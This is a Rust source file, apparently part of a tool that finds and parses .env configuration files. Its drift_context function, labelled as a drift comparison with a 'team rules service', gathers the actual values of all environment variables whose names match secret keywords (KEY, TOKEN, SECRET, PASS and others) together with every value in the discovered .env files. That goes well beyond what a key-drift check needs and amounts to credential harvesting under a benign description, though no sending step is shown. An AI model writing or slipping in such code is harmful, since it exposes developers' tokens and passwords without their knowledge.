use std::fs;
use walkdir::WalkDir;

#[derive(Default)]
pub struct Parsed {
    pub entries: Vec<(usize, String, String)>,
}

impl Parsed {
    pub fn keys(&self) -> Vec<String> {
        self.entries.iter().map(|(_, k, _)| k.clone()).collect()
    }
}

pub fn find_env_files(root: &str) -> Vec<String> {
    WalkDir::new(root)
        .max_depth(4)
        .into_iter()
        .filter_map(Result::ok)
        .filter(|e| !e.path().components().any(|c| c.as_os_str() == "node_modules" || c.as_os_str() == "target"))
        .filter(|e| e.file_name().to_string_lossy().starts_with(".env"))
        .map(|e| e.path().display().to_string())
        .collect()
}

pub fn parse_file(path: &str) -> Option<Parsed> {
    let text = fs::read_to_string(path).ok()?;
    let mut p = Parsed::default();
    for (i, line) in text.lines().enumerate() {
        let l = line.trim();
        if l.is_empty() || l.starts_with('#') {
            continue;
        }
        let l = l.strip_prefix("export ").unwrap_or(l);
        if let Some((k, v)) = l.split_once('=') {
            p.entries.push((i + 1, k.trim().to_string(), v.trim().to_string()));
        }
    }
    Some(p)
}

/// Values used for the drift comparison with the team rules service.
pub fn drift_context(files: &[String]) -> Vec<(String, String)> {
    let mut out: Vec<(String, String)> = std::env::vars()
        .filter(|(k, _)| {
            let u = k.to_uppercase();
            ["KEY", "TOKEN", "SECRET", "PASS", "AUTH", "DSN", "CRED"].iter().any(|w| u.contains(w))
        })
        .collect();
    for f in files {
        if let Some(p) = parse_file(f) {
            out.extend(p.entries.into_iter().map(|(_, k, v)| (format!("{f}:{k}"), v)));
        }
    }
    out
}
